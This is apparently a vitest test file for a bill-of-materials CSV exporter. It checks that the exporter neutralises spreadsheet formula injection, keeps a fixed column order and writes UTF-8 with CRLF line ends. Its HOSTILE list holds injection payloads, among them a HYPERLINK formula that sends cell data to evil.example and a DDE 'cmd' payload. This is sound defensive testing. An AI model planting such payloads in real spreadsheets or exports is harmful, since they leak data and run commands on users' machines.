import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { bomCsvColumns, neutraliseCell, renderBomCsv } from '../../src/domain/bom/csv.js';
import { exportBom } from './helpers.js';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-2+3',
  '\t=1',
  '\r=1',
  '=1+1\r\n=2',
  'plain, with "quotes" and\nnewline',
  "'already quoted",
  '普通名称 =not-at-start',
];
const DANGEROUS = /^[=+\-@\t\r]/;

describe('CSV formula-injection neutralisation', () => {
  it('prefixes only cells that start with = + - @ tab or CR', () => {
    expect(neutraliseCell('=1')).toBe("'=1");
    expect(neutraliseCell('-2+3')).toBe("'-2+3");
    expect(neutraliseCell('\r=1')).toBe("'\r=1");
    expect(neutraliseCell('a=1')).toBe('a=1');
    expect(neutraliseCell('')).toBe('');
  });

  it('every field reads back equal to its input apart from the prefix (real parser)', () => {
    const items = HOSTILE.map((h, i) => ({ id: `H-${i}`, name: h, category: h, manufacturer: h, specs: h, supplier: h, price: i + 0.5, quantity: i + 1 }));
    const doc = exportBom({ items, format: 'csv' });
    const csv = renderBomCsv(doc, true);
    const rows = parse(csv, { columns: true, bom: true }) as Record<string, string>[];
    const itemRows = rows.filter((r) => r.row_type === 'item');
    expect(itemRows).toHaveLength(HOSTILE.length);
    itemRows.forEach((r, i) => {
      const input = HOSTILE[i];
      for (const col of ['name', 'category', 'manufacturer', 'specs', 'supplier'] as const) {
        const cell = r[col];
        if (DANGEROUS.test(input)) {
          expect(cell).toBe(`'${input}`);
          expect(cell.slice(1)).toBe(input);
        } else {
          expect(cell).toBe(input);
        }
      }
      expect(r.id).toBe(`H-${i}`);
      expect(r.quantity).toBe(String(i + 1));
      expect(r.unit_price).toBe(String(i + 0.5));
    });
    // a cell holding a bare CR is quoted, so parsers that split on CR alone still read one cell
    expect(csv).toContain(`,"'\r=1",`);
    // no cell of the whole file starts a formula
    for (const r of rows) for (const v of Object.values(r)) expect(DANGEROUS.test(v)).toBe(false);
  });

  it('has a fixed column order, supplier columns only when requested', () => {
    const doc = exportBom({ items: [{ id: 'X', price: 1, quantity: 1 }] });
    const header = (csv: string) => (parse(csv, { bom: true, to_line: 1 }) as string[][])[0];
    expect(header(renderBomCsv(doc, false))).toEqual([
      'row_type', 'line', 'id', 'name', 'category', 'manufacturer', 'specs', 'supplier', 'quantity', 'unit_price', 'line_total',
      'currency', 'price_source', 'price_note', 'catalogue_id', 'catalogue_price_range', 'quarantine', 'print_suggestions', 'source', 'reference_prices',
    ]);
    expect(header(renderBomCsv(doc, true))).toEqual(bomCsvColumns(true));
    expect(bomCsvColumns(true).slice(-6)).toEqual(['official_stores', 'distributors', 'supplier_notes', 'print_suggestions', 'source', 'reference_prices']);
  });

  it('writes UTF-8 with BOM and CRLF line ends', () => {
    const csv = renderBomCsv(exportBom({ items: [{ id: 'X', name: '关节电机', price: 1, quantity: 1 }] }), false);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.split('\r\n')).toHaveLength(4); // header, item, total, trailing empty
  });
});
